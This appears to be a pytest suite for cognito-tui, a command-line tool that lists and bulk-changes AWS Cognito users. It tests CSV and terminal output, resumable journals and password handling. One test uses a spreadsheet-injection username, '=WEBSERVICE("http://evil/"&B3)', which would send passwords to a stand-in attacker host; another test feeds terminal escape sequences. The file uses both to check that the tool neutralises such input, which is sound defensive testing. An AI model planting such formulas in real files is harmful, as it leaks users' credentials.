"""`cognito-tui users`: looking at users, and changing one or many."""

from __future__ import annotations

import csv
import io
import json
import signal
import stat
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from cognito_tui.bulk.table import usernames
from cognito_tui.cognito.model import Secret, UserStatus
from cognito_tui.sandbox.faults import Fault
from cognito_tui.sandbox.mail import EmailSender
from cognito_tui.store.changes import Place
from cognito_tui.store.journal import About, JournalFile
from tests.aws.listener import answer, listening, refusal
from tests.cli.at_terminal import CONTROL_C, at_terminal
from tests.cli.running import alone, here, running
from tests.cli.town import AT_ONCE, Town, journal_in, outcomes, town
from tests.sandbox.house import POOL

NOT_INVITED = (
    'Only FORCE_CHANGE_PASSWORD has an invitation to resend: "Resend not possible. … status is not '
    'FORCE_CHANGE_PASSWORD".'
)
NO_TERMINAL = "cognito-tui: there is no terminal to ask on. To change without asking: --yes"
IDENTITY = answer(
    b"<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/ana</Arn>"
    b"<Account>123456789012</Account></GetCallerIdentityResult></GetCallerIdentityResponse>"
)
EXPIRED = answer(
    b"<ErrorResponse><Error><Code>ExpiredToken</Code><Message>Expired.</Message></Error></ErrorResponse>", 403
)


@pytest.fixture
def place() -> Iterator[Town]:
    with town() as made:
        yield made


class TestList:
    def test_each_user_is_an_object_a_line(self, place: Town) -> None:
        place.invited("ben")
        ran = place.users("list", "--json")
        assert (ran.status, ran.err) == (0, "")
        ana, ben = map(json.loads, ran.out.splitlines())
        assert ana["Username"] == "ana"
        assert ben == {
            "Username": "ben",
            "Attributes": {
                "sub": "ben-sub",
                "email": "ben@example.com",
                "email_verified": "true",
                "given_name": "Ben",
                "phone_number": "+351210000000",
            },
            "Enabled": True,
            "UserStatus": "FORCE_CHANGE_PASSWORD",
            "UserCreateDate": "2026-03-01T12:00:00.000Z",
            "UserLastModifiedDate": "2026-03-01T12:00:00.000Z",
            "TemporaryPasswordExpires": "2026-03-08T12:00:00.000Z",
        }
        assert (ana["UserStatus"], ana["TemporaryPasswordExpires"]) == ("CONFIRMED", None)

    def test_csv_has_a_header_and_computes_nothing(self, place: Town) -> None:
        place.house.user("=1+1")
        ran = place.users("list", "--csv")
        assert (ran.status, ran.err) == (0, "")
        ana, formula = csv.DictReader(io.StringIO(ran.out))
        assert list(ana)[:6] == [
            *("Username", "Enabled", "UserStatus", "UserCreateDate", "UserLastModifiedDate"),
            "TemporaryPasswordExpires",
        ]
        assert (ana["Username"], ana["email"], ana["Enabled"]) == ("ana", "ana@example.com", "true")
        assert (formula["Username"], formula["phone_number"]) == ("'=1+1", "'+351210000000")

    def test_csv_of_nobody_is_a_header(self, place: Town) -> None:
        ran = place.users("list", "--csv", "--filter", 'username = "nobody"')
        assert (ran.status, ran.err) == (0, "")
        assert ran.out.startswith("Username,Enabled,")
        assert len(ran.out.splitlines()) == 1

    def test_for_people_it_is_columns(self, place: Town) -> None:
        place.invited("ben")
        place.house.change(enabled=False)
        assert place.users("list").out == (
            "ana\tCONFIRMED\tdisabled\tana@example.com\t\n"
            "ben\tFORCE_CHANGE_PASSWORD\t\tben@example.com\texpires 2026-03-08 12:00 UTC or before\n"
        )

    def test_control_characters_reach_no_terminal(self, place: Town) -> None:
        place.house.user("ben", attributes={"email": "b@x\x1b]0;x\x07\u009b\n\u202e"})
        for options, shown in (
            ((), "b@x\\x1b]0;x\\x07\\x9b\\x0a\\u202e"),
            (("--json",), "b@x\\u001b]0;x\\u0007\\u009b\\n\\u202e"),
            (("--csv",), '"b@x\\x1b]0;x\\x07\\x9b\n\\u202e"'),
        ):
            ran = place.users("list", *options)
            assert shown in ran.out
            assert ran.out.replace("\n", "").replace("\t", "").isprintable()

    @pytest.mark.parametrize(
        ("options", "names"),
        [
            (("--filter", 'username ^= "b"'), ["ben", "bob"]),
            (("--filter", 'username ^= "b"', "--stuck"), ["ben"]),
            (("--limit", "2"), ["ana", "ben"]),
            (("--status", "confirmed"), ["ana", "bob"]),
            (("--status", "CONFIRMED", "--limit", "1"), ["ana"]),
            (("--stuck",), ["ben", "eva"]),
            (("--stuck", "--filter", 'username = "bob"'), []),
        ],
    )
    def test_only_some(self, place: Town, options: tuple[str, ...], names: list[str]) -> None:
        place.invited("ben", "eva")
        place.house.user("bob")
        place.house.pool.put(replace(place.house.now("eva"), enabled=False))
        ran = place.users("list", "--json", *options)
        assert ran.status == 0
        assert sorted(json.loads(line)["Username"] for line in ran.out.splitlines()) == names

    def test_page_after_page_also_where_pages_are_empty(self) -> None:
        with town(empty_pages=2) as place:
            names = {place.house.user(f"user-{number:03}").username for number in range(150)}
            ran = place.users("list", "--json")
        assert {json.loads(line)["Username"] for line in ran.out.splitlines()} == {*names, "ana"}

    def test_throttling_is_waited_out(self, place: Town) -> None:
        place.faults["ListUsers", ""] = [Fault.THROTTLE] * 3
        ran = place.users("list")
        assert (ran.status, ran.out[:3]) == (0, "ana")
        assert ran.err == "ListUsers: TooManyRequestsException: trying again in 1 s\n"

    def test_without_the_pools_policy_no_expiry_is_made_up(self, place: Town) -> None:
        place.invited("ben")
        place.faults["DescribeUserPool", ""] = [Fault.ERROR_BEFORE] * 9
        ran = place.users("list", "--stuck", "--json")
        assert json.loads(ran.out)["TemporaryPasswordExpires"] is None
        assert ran.status == 0
        assert ran.err.splitlines() == [
            "warning: DescribeUserPool: InternalErrorException: Something went wrong",
            "Without it it is not known when temporary passwords expire.",
        ]

    def test_where_the_pool_may_not_be_described_the_iam_action_is_said(self) -> None:
        denied = refusal("AccessDeniedException", "You are not authorized.")
        with listening(denied, answer({"Users": []})) as listener:
            ran = here("users", "list", "--user-pool-id", POOL, "--endpoint-url", listener.url)
        assert ran.status == 0
        assert ran.err.splitlines()[0] == (
            "warning: DescribeUserPool: AccessDeniedException: You are not authorized. "
            "Grant the IAM action cognito-idp:DescribeUserPool."
        )

    def test_a_pool_that_is_not_there(self, place: Town) -> None:
        ran = here("users", "list", "--user-pool-id", "local_Nowhere", "--endpoint-url", place.url)
        assert (ran.status, ran.out) == (1, "")
        assert ran.first == (
            "cognito-tui: DescribeUserPool: ResourceNotFoundException: "
            "User pool local_Nowhere does not exist."
        )

    @pytest.mark.parametrize("form", ["--csv", "--json"])
    def test_a_filter_that_is_none(self, place: Town, form: str) -> None:
        ran = place.users("list", form, "--filter", "nonsense")
        assert (ran.status, ran.out) == (1, "")
        assert ran.first.startswith("cognito-tui: ListUsers: InvalidParameterException: ")

    @pytest.mark.parametrize(
        ("options", "sentence"),
        [
            (("--json", "--csv"), "argument --csv: not allowed with argument --json"),
            (("--limit", "0"), "argument --limit: takes a number from 1 on"),
            (("--filter", ""), "argument --filter: must not be empty"),
        ],
    )
    def test_usage(self, place: Town, options: tuple[str, ...], sentence: str) -> None:
        place.users("list", *options).failed(2, f"cognito-tui: {sentence}")

    def test_no_pool_is_said(self) -> None:
        here("users", "list").failed(2, "cognito-tui: say which user pool: --profile, or --user-pool-id")

    def test_a_profile_says_the_pool(self, place: Town) -> None:
        here("profiles", "add", "web", *place.options, "--client-id", "openclient", "--no-secret")
        assert here("users", "list", "--profile", "web") == place.users("list")


class TestShow:
    def test_one_user(self, place: Town) -> None:
        place.house.change(mfa=("SOFTWARE_TOKEN_MFA",), preferred_mfa="SOFTWARE_TOKEN_MFA")
        found = place.users("show", "ana", "--json").json()
        assert (found["Username"], found["Attributes"]["email"]) == ("ana", "ana@example.com")
        assert found["UserMFASettingList"] == ["SOFTWARE_TOKEN_MFA"]
        text = place.users("show", "ana")
        assert "UserStatus\tCONFIRMED\n" in text.out
        assert "email\tana@example.com\n" in text.out

    def test_nobody(self, place: Town) -> None:
        ran = place.users("show", "nobody")
        assert (ran.status, ran.out) == (1, "")
        assert ran.first == "cognito-tui: AdminGetUser: UserNotFoundException: User does not exist."


class TestChange:
    def test_one_line_a_user_and_a_journal(self, place: Town) -> None:
        place.invited("ben")
        ran = place.users("resend", "ben", "ana", *AT_ONCE)
        lines = {each["Username"]: each for each in map(json.loads, ran.out.splitlines())}
        assert lines == {
            "ben": {"Username": "ben", "Outcome": "done", "Code": "", "Message": ""},
            "ana": {"Username": "ana", "Outcome": "skipped", "Code": "", "Message": NOT_INVITED},
        }
        assert ran.status == 0
        journal, counts = ran.err.splitlines()
        assert journal.startswith("journal: ")
        assert counts == "1 done, 1 skipped"
        assert stat.S_IMODE(journal_in(ran.err).stat().st_mode) == 0o600
        assert place.done("AdminCreateUser") == {"ben": 1}

    @pytest.mark.parametrize(
        ("command", "before", "after"),
        [
            (("confirm",), UserStatus.UNCONFIRMED, "CONFIRMED"),
            (("disable",), UserStatus.CONFIRMED, "CONFIRMED"),
            (("reset",), UserStatus.CONFIRMED, "RESET_REQUIRED"),
            (
                ("set-password", "--permanent", "--password-stdin"),
                UserStatus.FORCE_CHANGE_PASSWORD,
                "CONFIRMED",
            ),
            (
                ("set-password", "--temporary", "--password-stdin"),
                UserStatus.CONFIRMED,
                "FORCE_CHANGE_PASSWORD",
            ),
        ],
    )
    def test_each_action(self, place: Town, command: tuple[str, ...], before: UserStatus, after: str) -> None:
        place.house.user("ben", before)
        ran = place.users(*command, "ben", *AT_ONCE, stdin="Brand-new-1\n")
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})
        assert place.status("ben") == after
        assert place.house.now("ben").enabled is (command != ("disable",))
        if command[0] == "set-password":
            assert place.house.now("ben").has_password(Secret("Brand-new-1"))

    def test_enable_and_delete(self, place: Town) -> None:
        place.house.change(enabled=False)
        assert outcomes(place.users("enable", "ana", *AT_ONCE)) == {"ana": "done"}
        assert outcomes(place.users("enable", "ana", *AT_ONCE)) == {"ana": "skipped"}
        assert outcomes(place.users("delete", "ana", *AT_ONCE)) == {"ana": "done"}
        assert place.house.pool.find_canonical("ana") is None

    @pytest.mark.parametrize(
        ("names", "status"),
        [
            (("ana",), 0),
            (("ana", "ben"), 0),
            (("ben", "nobody"), 8),
            (("nobody",), 1),
            (("nobody", "no-other"), 1),
            (("ana", "nobody"), 8),
        ],
    )
    def test_the_exit_status_says_how_it_went(self, place: Town, names: tuple[str, ...], status: int) -> None:
        place.invited("ben")
        assert place.users("resend", *names, *AT_ONCE).status == status

    def test_names_from_a_file_from_stdin_and_from_csv(self, place: Town, tmp_path: Path) -> None:
        place.invited("ben", "eva", "tom", "+4915112345678")
        (tmp_path / "names").write_text("ben\n\nben\n")
        assert outcomes(place.users("resend", "ben", "--from-file", str(tmp_path / "names"), *AT_ONCE)) == {
            "ben": "done"
        }
        ran = place.users("resend", "--from-file", "-", *AT_ONCE, stdin="eva\r\n")
        assert outcomes(ran) == {"eva": "done"}
        listed = place.users("list", "--csv", "--filter", 'username ^= "+"').out
        ran = place.users("resend", "--from-file", "-", *AT_ONCE, stdin=listed)
        assert outcomes(ran) == {"+4915112345678": "done"}

    @pytest.mark.parametrize(
        ("content", "problem"),
        [
            (b"", "there is no username in it"),
            (b"ana\n\xff\n", "this is not text in UTF-8"),
            (b"ana\nb\0b\n", "line 2 has a NUL character inside"),
        ],
    )
    def test_a_file_that_is_no_list_of_names(
        self, place: Town, tmp_path: Path, content: bytes, problem: str
    ) -> None:
        (tmp_path / "names").write_bytes(content)
        place.users("resend", "--from-file", str(tmp_path / "names"), "--yes").failed(
            2, f"cognito-tui: --from-file: {problem}"
        )

    @pytest.mark.parametrize(
        ("arguments", "sentence"),
        [
            (("resend", "ana"), NO_TERMINAL),
            (("resend", "--yes"), "cognito-tui: say which users: USER ..., --from-file or --resume"),
            (
                ("resend", "--from-file", "/nowhere", "--yes"),
                "cognito-tui: --from-file: No such file or directory",
            ),
            (("resend", "a\nb", "--yes"), "cognito-tui: USER has a line break inside"),
            (
                ("resend", "ana", "--rate", "0", "--yes"),
                "cognito-tui: argument --rate: takes a number above 0",
            ),
            (("set-password", "ana", "--yes"), "cognito-tui: say --temporary or --permanent"),
            (
                ("set-password", "--temporary", "ana", "--yes"),
                "cognito-tui: say where the passwords come from: --password-stdin or --generate",
            ),
            (
                ("set-password", "--temporary", "--password-stdin", "ana", "--yes"),
                "cognito-tui: the first line of stdin is empty: it has to be the password",
            ),
        ],
    )
    def test_usage(self, place: Town, arguments: tuple[str, ...], sentence: str) -> None:
        place.users(*arguments).failed(2, sentence)
        assert place.house.sandbox.done == {}

    def test_a_read_only_profile_changes_nothing_and_says_why(self, place: Town) -> None:
        here(
            *("profiles", "add", "web", *place.options, "--client-id", "openclient", "--no-secret"),
            "--read-only",
        )
        ran = here("users", "disable", "ana", "--yes", "--profile", "web")
        assert (ran.status, ran.out) == (2, "")
        assert ran.first.startswith(
            "cognito-tui: profile 'web': AdminDisableUser was not sent: the profile is read only"
        )
        assert place.house.sandbox.done == {}
        assert here("users", "disable", "ana", "--dry-run", "--profile", "web").status == 0
        assert place.house.now("ana").enabled

    def test_a_reader_who_has_enough_does_not_stop_it(self, place: Town) -> None:
        names = [f"user-{number}" for number in range(9)]
        place.invited(*names)
        with running("users", "resend", *names, "--yes", *place.options) as process:
            assert process.stdout is not None
            assert process.stdout.readline().startswith(b'{"Username": "user-')
            process.stdout.close()
            assert process.wait(30) == 0
        assert place.done("AdminCreateUser") == dict.fromkeys(names, 1)

    def test_where_nobody_may_look_cognitos_words_come_first(self, place: Town) -> None:
        ran = here(
            *("users", "disable", "ana", "ben", "--yes"),
            *("--user-pool-id", "local_Nowhere", "--endpoint-url", place.url),
        )
        assert (ran.status, ran.out) == (1, "")
        assert ran.first == (
            "cognito-tui: AdminGetUser: ResourceNotFoundException: User pool local_Nowhere does not exist."
        )
        assert " users disable --resume " in ran.err.splitlines()[-1]

    def test_nobody_is_reached(self) -> None:
        ran = here(
            *("users", "disable", "ana", "--yes", "--user-pool-id", POOL),
            *("--endpoint-url", "http://127.0.0.1:9"),
        )
        assert (ran.status, ran.out) == (4, "")
        assert "The endpoint cannot be reached: the connection was refused." in ran.err


def test_a_run_hears_of_each_throttling(place: Town) -> None:
    """Its pace counts every request, so nothing below it repeats one."""
    place.faults["AdminDisableUser", "ana"] = [Fault.THROTTLE]
    ran = place.users("disable", "ana", *AT_ONCE)
    assert (ran.status, outcomes(ran)) == (0, {"ana": "done"})
    assert "ana: TooManyRequestsException; trying again in 1 s (2 of 5)\n" in ran.err


class TestMailLimit:
    def test_stops_the_run_and_leaves_the_rest_for_tomorrow(self, place: Town) -> None:
        place.house.pool.email_sender = EmailSender.COGNITO_DEFAULT
        names = [f"user-{number:02}" for number in range(60)]
        place.invited(*names)
        ran = place.users("resend", *names, *AT_ONCE)
        assert ran.status == 8
        assert list(outcomes(ran).values()) == ["done"] * 50
        assert (
            "cognito-tui: Cognito sends no more messages today (LimitExceededException: Exceeded" in ran.err
        )
        assert "\n50 done, 10 left\n" in ran.err
        place.house.clock.forward(days=1)
        again = place.users("resend", "--resume", str(journal_in(ran.err)), *AT_ONCE)
        assert (again.status, len(outcomes(again))) == (0, 10)
        assert again.err.splitlines()[-1] == "60 done"
        assert place.done("AdminCreateUser") == dict.fromkeys(names, 1)


class TestDryRun:
    def test_says_what_would_be_and_does_nothing(self, place: Town, tmp_path: Path) -> None:
        place.house.pool.email_sender = EmailSender.COGNITO_DEFAULT
        place.invited("ben", "eva")
        place.house.pool.put(replace(place.house.now("eva"), enabled=False))
        ran = place.users("resend", "ana", "ben", "eva", "nobody", "--dry-run")
        assert ran.status == 0
        assert outcomes(ran) == {"ana": "skipped", "ben": "planned", "eva": "skipped", "nobody": "failed"}
        assert ran.err.splitlines() == [
            "Resend invitation: 1 user will change (AdminCreateUser)",
            "  sends a new temporary password; its days start again",
            f"1 user will not: {NOT_INVITED}",
            '1 user will not: Enable the user first: "User is disabled."',
            "1 user will not: User does not exist.",
            "It sends 1 message. The pool mails through Cognito's own sender, which sends 50 e-mails a day "
            "for the account; this takes 1 of them.",
            "Each user looked at (AdminGetUser) counts among the monthly active users that Cognito bills.",
            "Nothing was sent but looks at users.",
        ]
        assert place.done("AdminCreateUser") == {}
        assert not (tmp_path / "state").exists()

    def test_tells_how_long_it_takes(self, place: Town) -> None:
        names = [f"user-{number:02}" for number in range(12)]
        place.invited(*names)
        assert "It takes about 2 s at 5 a second.\n" in place.users("resend", *names, "--dry-run").err
        slow = place.users("resend", *names, "--dry-run", "--rate", "0.1")
        assert "It takes about 2 min at 0.1 a second.\n" in slow.err

    def test_needs_no_password(self, place: Town) -> None:
        ran = place.users("set-password", "--permanent", "ana", "--dry-run")
        assert (ran.status, outcomes(ran)) == (0, {"ana": "planned"})


class TestAsking:
    def test_yes_goes_on(self, place: Town) -> None:
        place.invited("ben")
        with at_terminal("users", "resend", "ben", "ana", *place.options) as terminal:
            terminal.until("Resend invitation: 1 user will change (AdminCreateUser)")
            terminal.until(f"1 user will not: {NOT_INVITED}")
            terminal.answer("Go on? [y/N]: ", "y")
            ran = terminal.end()
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done", "ana": "skipped"})

    def test_anything_else_changes_nothing(self, place: Town) -> None:
        place.invited("ben")
        with at_terminal("users", "resend", "ben", *place.options) as terminal:
            terminal.answer("Go on? [y/N]: ", "")
            ran = terminal.end()
        assert (ran.status, ran.out, ran.err) == (0, "", "Nothing was changed.\n")
        assert place.done("AdminCreateUser") == {}

    @pytest.mark.parametrize(("typed", "gone"), [("ana", True), ("y", False), ("Ana", False)])
    def test_deleting_wants_the_name(self, place: Town, typed: str, gone: bool) -> None:
        with at_terminal("users", "delete", "ana", *place.options) as terminal:
            terminal.answer("To delete 'ana', type the username: ", typed)
            assert terminal.end().status == 0
        assert (place.house.pool.find_canonical("ana") is None) is gone

    @pytest.mark.parametrize(("typed", "gone"), [("2", True), ("y", False), ("3", False)])
    def test_deleting_many_wants_their_number(self, place: Town, typed: str, gone: bool) -> None:
        place.house.user("ben")
        with at_terminal("users", "delete", "ana", "ben", "nobody", *place.options) as terminal:
            terminal.answer("To delete 2 users, type their number: ", typed)
            terminal.end()
        assert (place.house.pool.find_canonical("ben") is None) is gone


class TestStopping:
    def test_ctrl_c_keeps_the_journal_and_says_how_to_go_on(self, place: Town) -> None:
        names = [f"user-{number:02}" for number in range(20)]
        place.invited(*names)
        with running("users", "resend", *names, "--yes", "--rate", "1", *place.options) as process:
            assert process.stdout is not None
            process.stdout.readline()
            process.send_signal(signal.SIGINT)
            _out, err = process.communicate(timeout=30)
        assert process.returncode == 130
        lines = err.decode().splitlines()
        journal = journal_in(err.decode())
        assert lines[-1] == f"To go on: cognito-tui users resend --resume {journal}"
        left = 20 - sum(place.done("AdminCreateUser").values())
        assert lines[-2] == f"{20 - left} done, {left} left"
        assert left > 10
        ran = place.users("resend", "--resume", str(journal), *AT_ONCE)
        assert (ran.status, len(outcomes(ran))) == (0, left)
        assert place.done("AdminCreateUser") == dict.fromkeys(names, 1)

    def test_sigterm_is_told_from_it(self, place: Town) -> None:
        place.invited("ben", "eva", "tom")
        options = ("--yes", "--rate", "0.1", *place.options)
        with running("users", "resend", "ben", "eva", "tom", *options) as process:
            assert process.stdout is not None
            process.stdout.readline()
            process.send_signal(signal.SIGTERM)
            _out, err = process.communicate(timeout=30)
        assert process.returncode == 143
        assert b"1 done, 2 left" in err

    def test_ctrl_c_at_the_question_changes_nothing(self, place: Town, tmp_path: Path) -> None:
        with at_terminal("users", "disable", "ana", *place.options) as terminal:
            terminal.until("Go on? [y/N]: ")
            terminal.type(CONTROL_C)
            assert terminal.end().status == 130
        assert place.house.now("ana").enabled
        assert not (tmp_path / "state").exists()


def about(place: Town) -> About:
    """A run of `resend` that nobody has carried out yet."""
    where = Place(POOL, "local", place.url)
    return About("resend", "AdminCreateUser", where, 1000.0, place.house.clock())


class TestResume:
    def test_what_was_lost_is_found(self, place: Town) -> None:
        place.invited("ben", "eva")
        place.faults["AdminCreateUser", "ben"] = [Fault.DROP_AFTER]
        ran = place.users("resend", "ben", "eva", *AT_ONCE)
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done", "eva": "done"})
        assert place.done("AdminCreateUser") == {"ben": 1, "eva": 1}

    def test_asks_on_a_terminal(self, place: Town) -> None:
        place.invited("ben")
        with JournalFile.begin(about(place), ["ben"]) as begun:
            journal = begun.path
        with at_terminal("users", "resend", "--resume", str(journal)) as terminal:
            terminal.answer("Go on? [y/N]: ", "y")
            ran = terminal.end()
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})
        assert ran.err.splitlines()[0] == "Resend invitation: 1 left to do, 0 to look into first"

    def test_only_of_the_same_action_and_pool(self, place: Town) -> None:
        ran = place.users("disable", "ana", *AT_ONCE)
        journal = str(journal_in(ran.err))
        shown = journal.replace(str(Path.home()), "~")
        place.users("enable", "--resume", journal, "--yes").failed(
            2, f"cognito-tui: {shown} is a journal of the action 'disable'"
        )
        here("users", "disable", "--resume", journal, "--yes", "--user-pool-id", "local_Other").failed(
            2, f"cognito-tui: {shown} is a journal of the user pool {POOL}, not of local_Other"
        )
        here("users", "disable", "ana", "--resume", journal, "--yes").failed(
            2, "cognito-tui: --resume has its users from the journal, and no --dry-run"
        )

    @pytest.mark.parametrize(
        ("options", "what", "said"),
        [
            (("--endpoint-url", "http://127.0.0.1:9"), "endpoint", "http://127.0.0.1:9"),
            (("--region", "eu-west-3"), "region", "eu-west-3"),
        ],
    )
    def test_only_where_it_was_begun(
        self, place: Town, options: tuple[str, ...], what: str, said: str
    ) -> None:
        """Else the rehearsal of a run would change what the journal is of."""
        place.invited("ben")
        with JournalFile.begin(about(place), ["ben"]) as begun:
            journal = begun.path
        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE, *options)
        shown = str(journal).replace(str(Path.home()), "~")
        begun_at = {"endpoint": place.url, "region": "local"}[what]
        ran.failed(2, f"cognito-tui: {shown} is a journal of the {what} {begun_at}, not of {said}")
        assert place.house.sandbox.done == {}

    def test_not_at_aws_what_goes_elsewhere_by_a_variable(
        self, place: Town, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        at_aws = replace(about(place), place=Place("eu-west-1_Kq3TzV9aB", "eu-west-1"))
        with JournalFile.begin(at_aws, ["ben"]) as begun:
            journal = begun.path
        monkeypatch.setenv("AWS_ENDPOINT_URL", place.url)
        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE)
        shown = str(journal).replace(str(Path.home()), "~")
        ran.failed(
            2,
            f"cognito-tui: {shown} is a journal of the endpoint of AWS, not of {place.url}, "
            "as AWS_ENDPOINT_URL says",
        )

    def test_not_in_a_pool_but_the_one_of_a_profile_that_a_variable_names(
        self, place: Town, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        place.invited("ben")
        with JournalFile.begin(about(place), ["ben"]) as begun:
            journal = begun.path
        here(
            *("profiles", "add", "web", "--user-pool-id", "local_Other", "--endpoint-url", place.url),
            *("--client-id", "openclient", "--no-secret"),
        )
        monkeypatch.setenv("COGNITO_TUI_PROFILE", "web")
        shown = str(journal).replace(str(Path.home()), "~")
        here("users", "resend", "--resume", str(journal), *AT_ONCE).failed(
            2,
            f"cognito-tui: {shown} is a journal of the user pool {POOL}, not of local_Other, "
            "as COGNITO_TUI_PROFILE says",
        )
        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE, "--user-pool-id", POOL)
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})

    def test_the_same_may_be_said_again(self, place: Town) -> None:
        place.invited("ben")
        with JournalFile.begin(about(place), ["ben"]) as begun:
            journal = begun.path
        ran = here(
            *("users", "resend", "--resume", str(journal), *AT_ONCE),
            *("--endpoint-url", f"{place.url}/", "--region", "local"),
        )
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done"})

    def test_a_profile_that_a_variable_names_keeps_it_from_changes(
        self, place: Town, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        place.invited("ben")
        with JournalFile.begin(about(place), ["ben"]) as begun:
            journal = begun.path
        here(
            *("profiles", "add", "web", *place.options, "--client-id", "openclient", "--no-secret"),
            "--read-only",
        )
        monkeypatch.setenv("COGNITO_TUI_PROFILE", "web")
        ran = here("users", "resend", "--resume", str(journal), *AT_ONCE)
        assert (ran.status, ran.out) == (2, "")
        assert ran.first.startswith("cognito-tui: profile 'web': AdminCreateUser was not sent")
        assert place.house.sandbox.done == {}

    def test_a_journal_that_is_none(self, tmp_path: Path) -> None:
        (tmp_path / "journal").write_text("ana\n")
        ran = here("users", "disable", "--resume", str(tmp_path / "journal"), "--yes")
        damage = "line 1: this is not JSON. It is kept as it is: correct it by hand."
        ran.failed(2, f"cognito-tui: {tmp_path}/journal, {damage}")


class TestPasswords:
    def test_generated_ones_are_in_the_file_before_the_call(self, place: Town, tmp_path: Path) -> None:
        place.invited("ben", "eva")
        file = tmp_path / "passwords.csv"
        ran = place.users("set-password", "--temporary", "--generate", str(file), "ben", "eva", *AT_ONCE)
        assert (ran.status, outcomes(ran)) == (0, {"ben": "done", "eva": "done"})
        assert ran.first == (
            f"warning: {file} gets passwords that whoever reads it can use: delete it when done"
        )
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
        rows = {row["username"]: row["password"] for row in csv.DictReader(io.StringIO(file.read_text()))}
        assert set(rows) == {"ben", "eva"}
        for name, password in rows.items():
            assert place.house.now(name).has_password(Secret(password))
        everything = b"".join(path.read_bytes() for path in (tmp_path / "state").rglob("*") if path.is_file())
        assert not any(password.encode() in everything for password in rows.values())

    def test_no_username_in_the_file_is_computed(self, place: Town, tmp_path: Path) -> None:
        """Else a spreadsheet would send the passwords of the others to wherever a username says."""
        evil = '=WEBSERVICE("http://evil/"&B3)'
        place.invited(evil, "ben")
        file = tmp_path / "passwords.csv"
        ran = place.users("set-password", "--temporary", "--generate", str(file), evil, "ben", *AT_ONCE)
        assert ran.status == 0
        written = file.read_text()
        rows = {row["username"]: row["password"] for row in csv.DictReader(io.StringIO(written))}
        assert set(rows) == {f"'{evil}", "ben"}
        assert place.house.now(evil).has_password(Secret(rows[f"'{evil}"]))
        assert set(usernames(written)) == {evil, "ben"}

    def test_a_file_that_is_there_is_left_as_it_is(self, place: Town, tmp_path: Path) -> None:
        file = tmp_path / "passwords.csv"
        file.write_text("mine")
        place.users("set-password", "--temporary", "--generate", str(file), "ana", "--yes").failed(
            2, f"cognito-tui: --generate: {file} is there already, and is left as it is"
        )
        assert file.read_text() == "mine"
        assert place.done("AdminSetUserPassword") == {}

    def test_a_resumed_run_goes_on_with_its_file(self, place: Town, tmp_path: Path) -> None:
        place.invited("ben", "eva")
        file = tmp_path / "passwords.csv"
        place.faults["AdminSetUserPassword", "eva"] = [Fault.THROTTLE] * 99
        with running(
            *("users", "set-password", "--temporary", "--generate", str(file), "ben", "eva", "--yes"),
            *("--rate", "1", *place.options),
        ) as process:
            assert process.stdout is not None
            process.stdout.readline()
            process.send_signal(signal.SIGINT)
            _out, err = process.communicate(timeout=30)
        assert process.returncode == 130
        place.faults.clear()
        journal = str(journal_in(err.decode()))
        ran = place.users("set-password", "--resume", journal, *AT_ONCE)
        assert (ran.status, outcomes(ran)) == (0, {"eva": "done"})
        last = {row["username"]: row["password"] for row in csv.DictReader(io.StringIO(file.read_text()))}
        assert place.house.now("eva").has_password(Secret(last["eva"]))

    def test_one_that_the_policy_does_not_take_is_not_sent(self, place: Town) -> None:
        ran = place.users("set-password", "--permanent", "--password-stdin", "ana", "--yes", stdin="short\n")
        ran.failed(2, "cognito-tui: the pool's policy wants of a password: 8+ long, upper, number, symbol")
        assert place.done("AdminSetUserPassword") == {}

    def test_the_password_is_the_first_line_and_the_names_follow(self, place: Town) -> None:
        ran = place.users(
            *("set-password", "--permanent", "--password-stdin", "--from-file", "-", *AT_ONCE),
            stdin="Brand-new-1\nana\n",
        )
        assert (ran.status, outcomes(ran)) == (0, {"ana": "done"})
        assert "Brand-new-1" not in ran.out + ran.err


class TestIdentity:
    @pytest.fixture(autouse=True)
    def keys(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAOFTHEPERSON")
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")

    def test_is_never_asked_with_an_endpoint(self, place: Town, monkeypatch: pytest.MonkeyPatch) -> None:
        with listening(IDENTITY) as sts:
            monkeypatch.setenv("AWS_ENDPOINT_URL_STS", sts.url)
            assert place.users("disable", "ana", *AT_ONCE).status == 0
        assert sts.requests == []

    def test_whoever_is_nobody_changes_nothing(self, monkeypatch: pytest.MonkeyPatch) -> None:
        with listening(EXPIRED) as sts:
            monkeypatch.setenv("AWS_ENDPOINT_URL_STS", sts.url)
            ran = here("users", "disable", "ana", "--yes", "--user-pool-id", "eu-west-1_Kq3TzV9aB")
        assert (ran.status, ran.out) == (5, "")
        assert ran.first == "cognito-tui: GetCallerIdentity: ExpiredToken: Expired."
        assert len(sts.requests) == 1

    def test_is_said_before_the_first_change_and_written_down(
        self, place: Town, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        """With no endpoint but AWS itself, which a proxy on this machine keeps it from."""
        with listening(IDENTITY) as sts:
            monkeypatch.setenv("AWS_ENDPOINT_URL_STS", sts.url)
            monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
            monkeypatch.setenv("NO_PROXY", "127.0.0.1")
            ran = here("users", "disable", "ana", "--yes", "--user-pool-id", "eu-west-1_Kq3TzV9aB")
        assert ran.status == 4
        (journal,) = (tmp_path / "state" / "bulk").glob("*.jsonl")
        header = json.loads(journal.read_text().partition("\n")[0])
        assert header["identity"] == "arn:aws:iam::123456789012:user/ana"


def test_no_password_is_on_any_stream_or_in_any_file(place: Town, tmp_path: Path) -> None:
    password = "Sentinel-password-1"
    ran = alone(
        *("users", "set-password", "--temporary", "--password-stdin", "ana", *AT_ONCE, *place.options),
        stdin=f"{password}\n",
    )
    assert ran.status == 0
